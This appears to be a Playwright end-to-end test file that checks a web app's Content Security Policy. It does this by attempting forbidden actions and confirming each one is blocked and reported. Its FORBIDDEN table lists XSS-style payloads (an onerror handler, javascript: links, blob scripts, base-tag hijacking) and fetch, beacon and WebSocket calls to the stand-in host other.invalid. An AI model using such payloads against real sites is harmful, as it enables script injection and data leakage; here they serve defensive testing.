"""The policy in a real browser: what it forbids is blocked, and fails the test it happens in."""

import re

from playwright.sync_api import Browser, Page, Route

from tests.e2e.visit import BREACHES, Visit, ask
from web.make.server import SiteServer

# What no part of Talon needs, and the directive that blocks it.
FORBIDDEN = {
    "an inline handler": (
        "script-src",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=pwned=1>')",
    ),
    "an inline script": (
        "script-src",
        "document.body.append(Object.assign(document.createElement('script'), {text: 'pwned=1'}))",
    ),
    "a script made on the page": (
        "script-src",
        "import(URL.createObjectURL(new Blob(['globalThis.pwned=1'], {type: 'text/javascript'}))).catch(() => {})",
    ),
    "a script from elsewhere": ("script-src", "import('https://other.invalid/x.js').catch(() => {})"),
    "a link that runs": (
        "script-src",
        "Object.assign(document.createElement('a'), {href: 'javascript:pwned=1'}).click()",
    ),
    "a worker from elsewhere": ("worker-src", "try { new Worker('data:text/javascript,1') } catch {}"),
    "a style attribute": (
        "style-src",
        "document.body.insertAdjacentHTML('beforeend', '<p style=\"color:red\">x</p>')",
    ),
    "a style sheet on the page": ("style-src", "document.head.insertAdjacentHTML('beforeend', '<style>p{}</style>')"),
    "a request elsewhere": ("connect-src", "fetch('https://other.invalid/').catch(() => {})"),
    "a letter home": ("connect-src", "navigator.sendBeacon('https://other.invalid/', 'x')"),
    "a line that stays open": ("connect-src", "try { new WebSocket('wss://other.invalid/') } catch {}"),
    "a picture from elsewhere": ("img-src", "new Image().src = 'https://other.invalid/x.png'"),
    "a picture in its address": ("img-src", "new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='"),
    "a font": ("font-src", "new FontFace('x', 'url(data:font/woff2;base64,)').load().catch(() => {})"),
    "a sound": ("media-src", "document.body.append(Object.assign(new Audio(), {src: './x.mp3', preload: 'auto'}))"),
    "a frame": ("frame-src", "document.body.append(Object.assign(document.createElement('iframe'), {src: './'}))"),
    "an object": (
        "object-src",
        "document.body.append(Object.assign(document.createElement('object'), {data: './x'}))",
    ),
    "another base": (
        "base-uri",
        "document.head.append(Object.assign(document.createElement('base'), {href: 'https://other.invalid/'}))",
    ),
    "a form that is sent": (
        "form-action",
        "document.body.append(document.createElement('form')); document.forms[0].submit()",
    ),
}
WORKER = """() => {
  const code = "fetch('https://other.invalid/').catch(() => postMessage('refused'))";
  const worker = new Worker(URL.createObjectURL(new Blob([code])));
  return new Promise((done) => { worker.onmessage = ({ data }) => done(data); });
}"""


def breach(page: Page, script: str) -> str:
    """Does what is forbidden, and returns the breach that tests hear of."""
    page.evaluate(f"() => {{ {script}; }}")
    for _ in range(100):
        page.wait_for_timeout(20)
        found = [text for text in BREACHES if text.startswith("policy: ")]
        if found:
            break
    else:
        found = ["nothing was heard"]
    return found[0]


def test_what_nothing_needs_is_forbidden_and_heard_of(visit: Visit) -> None:
    page = visit.open()
    heard = {}
    for name, (_, script) in FORBIDDEN.items():
        BREACHES.clear()
        heard[name] = breach(page, script)
    assert page.evaluate("globalThis.pwned ?? 'nothing ran'") == "nothing ran"
    BREACHES.clear()
    visit.problems.clear()
    missed = {
        name: heard[name]
        for name, (directive, _) in FORBIDDEN.items()
        if not re.match(rf"policy: {directive}(-elem|-attr)? ", heard[name])
    }
    assert missed == {}


def test_the_engines_worker_keeps_to_the_policy_too(visit: Visit) -> None:
    page = visit.open()
    assert ask(page, "hello")["ok"]
    assert page.evaluate(WORKER) == "refused"
    page.wait_for_timeout(200)
    heard = list(BREACHES)
    BREACHES.clear()
    visit.problems.clear()
    assert any("connect-src" in text for text in heard)


def test_the_headers_for_hosts_break_nothing_and_keep_frames_out(browser: Browser, host: SiteServer) -> None:
    lines = (host.root / "_headers").read_text().splitlines()[1:]
    headers = dict(line.strip().split(": ", 1) for line in lines)

    def answer(route: Route) -> None:
        reply = route.fetch()
        route.fulfill(response=reply, headers={**reply.headers, **headers})

    visit = Visit(browser, host.url, service_workers="block")
    visit.context.route(f"{host.url}**", answer)
    page = visit.open()
    assert ask(page, "hello")["ok"]
    assert visit.problems == []
    framing = visit.context.new_page()
    framing.route("**/framing", lambda route: route.fulfill(content_type="text/html", body="<title>x</title>"))
    framing.goto(f"{host.url}framing")
    framing.evaluate(
        "(url) => document.body.append(Object.assign(document.createElement('iframe'), {src: url}))", host.url
    )
    framing.wait_for_timeout(1000)
    (inner,) = [frame for frame in framing.frames if frame is not framing.main_frame]
    assert inner.url.startswith("chrome-error:")
    visit.context.unroute_all(behavior="wait")  # the page still fetches what it needs later
    visit.close()
    assert "frame-ancestors" in " ".join(BREACHES)
    BREACHES.clear()
